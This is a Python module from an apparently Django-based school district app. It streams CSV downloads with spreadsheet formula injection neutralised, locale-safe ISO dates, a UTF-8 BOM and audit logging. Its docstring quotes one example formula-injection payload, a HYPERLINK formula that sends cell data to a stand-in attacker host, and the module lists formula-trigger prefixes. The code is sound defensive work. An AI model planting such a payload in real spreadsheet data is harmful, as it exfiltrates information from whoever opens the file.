"""CSV exports that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice
and Google Sheets: a device note of ``=HYPERLINK("http://evil.example/?"&A1)`` would run
on the district office's computer. OWASP's advice is to prefix such a cell with an
apostrophe, which spreadsheets show as text. Every cell of ``csv_response`` goes through
``neutralise``; numbers (not strings) cannot carry a formula and ``-3`` should stay a
number, so they are written plainly (schools/numbers.py: ``12.91``, never the
``12.9100000000000`` of a SQLite aggregate).

Dates stay ISO 8601 (2026-08-15) in every CSV, so a spreadsheet sorts and reads them
whatever its locale; a date and time is written in the district's zone, to the minute
("2026-08-15 15:30"), never in UTC with an offset.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import datetime
from decimal import Decimal
from typing import NamedTuple

from django.http import StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

from .numbers import plain
from .scoping import captured_scope, current_request
from .signals import csv_downloaded

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def neutralise(value) -> str:
    """The cell's text, with a leading apostrophe when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        # ISO 8601, which every spreadsheet sorts, in the district's zone, to the minute.
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.replace(tzinfo=None).isoformat(sep=" ", timespec="minutes")
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return plain(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() hands back the line (csv.writer needs a file)."""

    def write(self, value: str) -> str:
        return value


def _audit_export(filename: str) -> None:
    """Every export a person downloads is announced for the audit log (``audit.signals``
    records it with the user and district of the current request); a file written outside
    a request (a command) is not a download."""
    if current_request() is None:
        return
    csv_downloaded.send(sender=None, filename=filename)


class CsvTable(NamedTuple):
    """A CSV download as a selector prepares it (``rows`` may be lazy); a view streams it
    with ``csv_response(*table)``."""

    filename: str
    header: list
    rows: Iterable[Iterable]


def csv_response(
    filename: str, header: Iterable, rows: Iterable[Iterable]
) -> StreamingHttpResponse:
    """Stream ``header`` and ``rows`` as a CSV download, every cell neutralised.

    ``rows`` may be a lazy queryset or generator: it is consumed while the response is
    sent, which happens after the view (and ScopeMiddleware's scope) has returned. The
    scope active when this function is called is therefore captured here and re-activated
    while the rows are read, so a scoped queryset is still filtered to what the user may
    see instead of failing (or, outside the scope, leaking).
    """
    _audit_export(filename)
    writer = csv.writer(_Echo())
    in_scope = captured_scope()
    zone = timezone.get_current_timezone()  # the district's, like the page's
    header = [neutralise(cell) for cell in header]

    def lines():
        # The BOM tells Excel the file is UTF-8; without it "Niño" opens as "NiÃ±o".
        yield BOM + writer.writerow(header)
        with in_scope(), timezone.override(zone):
            for row in rows:
                yield writer.writerow([neutralise(cell) for cell in row])

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response
